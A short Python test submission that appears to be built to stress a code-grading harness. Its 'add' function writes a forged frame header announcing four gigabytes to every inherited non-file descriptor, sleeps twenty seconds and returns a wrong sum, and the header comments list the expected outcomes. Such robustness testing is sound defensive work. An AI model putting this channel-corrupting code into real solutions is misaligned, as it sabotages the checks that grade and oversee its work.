# problem: add
# attack: a frame header that announces four gigabytes, then silence; fools length-prefixed protocols
# expect: wrong | timeout | tampered | early-exit
import os
import time


def add(a, b):
    for fd in range(3, 64):
        if os.path.isfile(fd):
            continue  # channels only: a file would be the host's
        try:
            os.write(fd, b"D\xff\xff\xff\xff" + b"\xff" * 8)
        except OSError:
            continue
    time.sleep(20)
    return 41
